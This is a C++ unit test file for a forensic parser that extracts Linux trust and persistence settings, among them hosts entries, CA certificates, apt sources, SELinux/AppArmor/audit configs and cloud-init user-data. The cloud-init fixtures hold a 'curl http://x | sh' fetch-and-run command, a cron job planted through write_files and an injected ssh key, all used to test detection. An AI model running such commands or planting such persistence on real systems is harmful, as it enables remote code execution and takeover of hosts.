#include "support/collecting_context.hpp"
#include "support/samples.hpp"
#include "traces/linux_trust/parser.hpp"
#include <gtest/gtest.h>

namespace konseki::linux_trust {

namespace {

using List = std::vector<std::string>;

struct Parsed {
    List starts; // "name|schedule|command|detail|is_enabled"
    List settings; // "location|section|name|value"
    std::size_t diagnostics = 0;
    std::vector<test::Row> rows; // settings
};

Parsed parse_all(std::string_view content, std::string_view name)
{
    EXPECT_EQ(parser.sniff(as_bytes(content), name), Sniff::sure) << name;
    test::CollectingContext collected;
    parser.parse({ as_bytes(content), { 0, content.size() }, name }, collected.context);
    Parsed parsed;
    for (auto row : collected.rows("linux.autostart"))
        parsed.starts.push_back(
            format("{}|{}|{}|{}|{}", row["name"], row["schedule"], row["command"], row["detail"], row["is_enabled"]));
    parsed.rows = collected.rows("linux.setting");
    for (auto row : parsed.rows)
        parsed.settings.push_back(format("{}|{}|{}|{}", row["location"], row["section"], row["name"], row["value"]));
    parsed.diagnostics = collected.diagnostics.list.size();
    return parsed;
}

std::string sample(std::string_view name)
{
    return test::read_file(std::string(KONSEKI_SOURCE_DIR) + "/src/traces/linux_trust/testdata/" + std::string(name));
}

}

// covers: L46
TEST(LinuxTrust, NamesAuthoritiesAndSources)
{
    auto parsed = parse_all("127.0.0.1 localhost a # c\n::1 b\n", "[root]/etc/hosts");
    EXPECT_EQ(parsed.settings, (List { "L46|hosts|localhost|127.0.0.1", "L46|hosts|a|127.0.0.1", "L46|hosts|b|::1" }));
    EXPECT_EQ(parsed.rows[0].at("@offset"), "10");
    auto const certificate = sample("ca.crt");
    parsed = parse_all(certificate + "x\n" + certificate, "/usr/local/share/ca-certificates/x.crt");
    ASSERT_EQ(parsed.settings.size(), 2U);
    // openssl x509 -fingerprint -sha256
    EXPECT_EQ(parsed.settings[0],
        "L46|certificate|x.crt|sha256:4088b94c2850c18af603e94bd756db00e71d244a5a13c2d4751e44d6e759e82c CN=Test Root "
        "CN=Test Root");
    EXPECT_EQ(parsed.settings[1], parsed.settings[0]);
    EXPECT_EQ(parse_all("-----BEGIN CERTIFICATE-----\nA!\n-----END CERTIFICATE-----\n",
                  "/usr/local/share/ca-certificates/x.crt")
                  .diagnostics,
        1U);
    parsed = parse_all("deb [trusted=yes] http://x/debian stable main\n# c\ndeb\n", "/etc/apt/sources.list.d/x.list");
    EXPECT_EQ(parsed.settings, (List { "L46|deb|http://x/debian|[trusted=yes] stable main" }));
    EXPECT_EQ(parsed.diagnostics, 1U);
    parsed = parse_all(
        "Types: deb\nURIs: http://x\nSigned-By:\n a\n b\n\nTypes: deb-src\n", "/etc/apt/sources.list.d/x.sources");
    EXPECT_EQ(parsed.settings,
        (List { "L46|paragraph 1|Types|deb", "L46|paragraph 1|URIs|http://x", "L46|paragraph 1|Signed-By|a\nb",
            "L46|paragraph 2|Types|deb-src" }));
}

// covers: L40
TEST(LinuxTrust, WhatWatchesTheHost)
{
    EXPECT_EQ(
        parse_all("# c\nSELINUX=disabled\n", "/etc/selinux/config").settings, (List { "L40|config|SELINUX|disabled" }));
    EXPECT_EQ(parse_all("profile\n", "/etc/apparmor.d/disable/usr.bin.x").settings,
        (List { "L40|apparmor|disabled|usr.bin.x" }));
    EXPECT_EQ(parse_all("-D\n-w /etc/passwd -p wa\n-e 0\n", "/etc/audit/rules.d/x.rules").settings,
        (List { "L40|audit rule|-D|", "L40|audit rule|-w|/etc/passwd -p wa", "L40|audit rule|-e|0" }));
    EXPECT_EQ(parse_all("active = yes\npath = /tmp/x\nargs = 1\n", "/etc/audit/plugins.d/x.conf").starts,
        (List { "x.conf|auditd starts|/tmp/x 1|does: runs_from_temporary|true" }));
}

// covers: L45
TEST(LinuxTrust, CloudInitRunsCommands)
{
    auto const parsed = parse_all(sample("user-data.txt"), "/var/lib/cloud/instance/user-data.txt");
    EXPECT_EQ(parsed.starts,
        (List { "user-data.txt|first boot|[ sh, -c, \"curl http://x | sh\" ]||",
            "user-data.txt|first boot|/tmp/x|does: runs_from_temporary|", "user-data.txt|every boot|echo a||" }));
    EXPECT_EQ(parsed.settings,
        (List { "L45|cloud|runcmd[]|[ sh, -c, \"curl http://x | sh\" ]", "L45|cloud|runcmd[]|/tmp/x",
            "L45|cloud|bootcmd[]|echo a", "L45|cloud|users[].name|h",
            "L45|cloud|users[].ssh_authorized_keys[]|ssh-ed25519 AAAA h",
            "L45|cloud|write_files[].content|* * * * * root id", "L45|cloud|write_files[].path|/etc/cron.d/x" }));
    EXPECT_EQ(parse_all("#!/bin/sh\ncurl http://x | sh\n", "/var/lib/cloud/instance/user-data.txt").starts.size(), 2U);
}

TEST(LinuxTrust, EveryPrefixIsReadWithoutHarm)
{
    for (auto const& [file, name] : { std::pair { "ca.crt", "/usr/local/share/ca-certificates/x.crt" },
             { "user-data.txt", "/etc/cloud/cloud.cfg" } }) {
        auto const content = sample(file);
        for (std::size_t size = 0; size < content.size(); ++size)
            EXPECT_LE(parse_all(std::string_view(content).substr(0, size), name).settings.size(), 7U);
    }
}

}
